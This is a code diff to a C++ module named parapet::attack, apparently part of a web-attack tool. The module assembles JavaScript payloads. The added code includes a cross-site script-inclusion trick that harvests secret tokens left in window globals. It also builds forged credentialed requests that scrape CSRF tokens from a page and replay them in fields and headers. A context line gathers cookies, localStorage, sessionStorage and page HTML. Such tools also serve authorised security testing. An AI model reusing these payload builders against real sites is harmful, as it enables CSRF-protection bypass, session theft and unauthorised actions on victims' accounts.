@@ -4,6 +4,23 @@
 
 namespace parapet::attack {
 
+namespace {
+
+// A script of the app's may be loaded by any page, which then sees what it has left in window.
+std::string act_with_script(Target const& target, OwnForm const& own, std::size_t length,
+                            std::string const& act) {
+    std::string const wanted = "typeof t===\"string\"&&t.length===" + std::to_string(length);
+    return "const s=document.createElement(\"script\");s.src=" +
+           script_string(app_origin(target) + own.page) +
+           ";s.onload=()=>{const all=[];for(const k of Object.getOwnPropertyNames(window)){"
+           "let v;try{v=window[k]}catch{continue}all.push(v);"
+           "if(v&&typeof v===\"object\"&&v!==window&&!v.nodeType)try{all.push(...Object.values(v))}"
+           "catch{}}for(const t of all.filter(t=>" +
+           wanted + ").slice(-4)){" + act + "}};document.head.appendChild(s);";
+}
+
+}  // namespace
+
 char const kAllInReach[] =
     "document.cookie+\"\\n\"+JSON.stringify(localStorage)+\"\\n\"+JSON.stringify(sessionStorage)+"
     "\"\\n\"+document.documentElement.innerHTML";
@@ -66,10 +83,17 @@ std::string act_script(Target const& target, Endpoint const& endpoint, OwnForm c
     std::string_view const type =
         is_json ? "application/json" : "application/x-www-form-urlencoded";
     std::string body = is_json ? json_object(fields) : http::serialize_query(fields);
-    Endpoint const* page = target.surface().find(own.page);
     std::string const address = address_of(target, endpoint);
-    if (page == nullptr || own.before_token.empty())
-        return fetch_script(endpoint.method, address, type, script_string(body));
+    bool const has_token = !own.page.empty() && !own.before_token.empty();
+    std::string const token =
+        has_token ? (own.tokens.empty() ? own.headers : own.tokens).front().value : "";
+    std::string headers;
+    for (http::QueryPair const& each : own.headers)
+        headers += "," + script_string(each.name) + ":" +
+                   (each.value == token ? std::string("t") : script_string(each.value));
+    if (!has_token)
+        return fetch_script(endpoint.method, address, type, script_string(body), headers);
+    if (own.headers.empty()) headers = ",\"x-csrf-token\":t";
     if (is_json) body.pop_back();
     // The token goes under every name that it has somewhere.
     std::string expression = script_string(body);
@@ -78,11 +102,14 @@ std::string act_script(Target const& target, Endpoint const& endpoint, OwnForm c
                           ? "+" + script_string(",\"" + each.name + "\":\"") + "+t+'\"'"
                           : "+" + script_string("&" + each.name + "=") + "+encodeURIComponent(t)";
     if (is_json) expression += "+'}'";
-    return "fetch(" + script_string(address_of(target, *page)) +
+    // A header has to be asked for first, and a field may be enough.
+    std::string act = fetch_script(endpoint.method, address, type, expression);
+    act += fetch_script(endpoint.method, address, type, expression, headers);
+    if (own.told == OwnForm::Told::InScript) return act_with_script(target, own, token.size(), act);
+    return "fetch(" + script_string(app_origin(target) + own.page) +
            ",{credentials:\"include\"}).then(r=>r.text()).then(p=>{const t=p.split(" +
            script_string(own.before_token) + ")[1].split(" + script_string(own.after_token) +
-           ")[0];" +
-           fetch_script(endpoint.method, address, type, expression, ",\"x-csrf-token\":t") + "});";
+           ")[0];" + act + "});";
 }
 
 std::vector<std::string> script_carriers(std::string const& script) {
